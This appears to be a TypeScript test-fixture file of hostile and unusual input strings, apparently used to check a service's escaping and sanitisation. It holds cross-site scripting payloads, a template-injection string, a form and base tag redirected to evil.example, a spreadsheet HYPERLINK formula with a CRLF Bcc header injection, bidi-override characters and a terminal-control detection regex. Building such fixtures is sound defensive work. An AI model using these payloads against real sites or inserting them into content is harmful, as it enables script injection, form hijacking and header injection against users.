/** Malicious texts, and texts in unusual scripts. */
export const hostileTexts: readonly string[] = [
  '<script>globalThis.hacked = "x"</script>',
  '</script><script>globalThis.hacked = "x"</script>',
  '<script>alert("x")</script>',
  '<img src=x onerror="globalThis.hacked = 1">',
  '<svg onload="globalThis.hacked = 1"><a href="javascript:globalThis.hacked=1">x</a></svg>',
  "</title></style></textarea></main>",
  '</textarea><script>globalThis.hacked = "x"</script>',
  `" onmouseover="globalThis.hacked=1" x='`,
  "' onfocus='globalThis.hacked=1' autofocus '",
  `"'><input autofocus onfocus=globalThis.hacked=1>`,
  "<!-- <!--> ]]> <![CDATA[ --!>",
  "</b><base href=//evil.example/><form action=//evil.example/>",
  "\u202Edlrow\u202C \u200Fאבג\u2067",
  "‮reversed ⁦isolate ⁩ ‏mark",
  "مرحبا بالعالم — אבג ABC 123",
  "💥👩‍👩‍👧 naïve — “quotes” & &amp; &#60; &lt;b&gt;",
  "tab\tand\nline\u2028separator\u0007bell",
  "javascript:globalThis.hacked=1",
  "{{ 7 | times: 7 }}{% include 'x' %}${7*7}{{constructor.constructor('globalThis.hacked=1')()}}",
  "Zaͭ̓l̷g̸o͂ \uFEFF\u00AD\u200B\uFFFF",
  '=HYPERLINK("http://evil.example")\r\nBcc: victim@mail.example',
];

/** Texts that the service cannot store; requests that contain them are rejected. */
export const unstorableTexts: readonly string[] = ["null \u0000 byte", "half \uD83D a pair"];

/** Long words without a break opportunity. */
export const longWords: readonly string[] = ["x".repeat(300), "Donaudampfschiff".repeat(18), "長".repeat(200)];

/** Everything that a terminal interprets or hides, except line breaks and tabs. */
export const terminalControls =
  // oxlint-disable-next-line no-control-regex -- control characters are what it finds
  /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u200B\u200E\u200F\u2028-\u202E\u2060-\u2067\u206A-\u206F\uFEFF\u{E0000}-\u{E007F}]/u;
